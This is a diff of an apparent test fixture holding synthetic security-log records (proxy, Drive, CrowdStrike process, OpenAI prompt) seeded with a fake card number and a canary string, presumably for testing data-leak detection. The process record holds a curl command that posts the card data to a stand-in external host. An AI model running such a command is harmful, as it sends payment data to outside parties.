@@ -31,11 +31,13 @@ DRIVE = {
         {"name": "doc_id", "value": "d1"}, {"name": "doc_title", "value": f"Card {CARD} of {CANARY}"}]}],
 }  # fmt: skip
 PROCESS = {
-    "event_simpleName": "ProcessRollup2", "timestamp": "1795144500000", "aid": "a" * 32, "id": "process-record-4471-of-ana",
+    "event_simpleName": "ProcessRollup2", "timestamp": "1795144500000", "aid": "a" * 32,
+    "id": "process-record-4471-of-ana",
     "CommandLine": f"curl -d '{CARD}' https://a.example/{CANARY}",
 }  # fmt: skip
 PROMPT = {
-    "id": "response-record-4471-of-ana", "object": "response", "created_at": 1795144500, "input": f"Charge {CARD}, {CANARY}",
+    "id": "response-record-4471-of-ana", "object": "response", "created_at": 1795144500,
+    "input": f"Charge {CARD}, {CANARY}",
     "output": f"Charged {CARD}", "user": "ana.rao@example.com",
 }  # fmt: skip
 SENT = {"zscaler_zia": PROXY, "google_workspace": DRIVE, "crowdstrike": PROCESS, "openai": PROMPT}
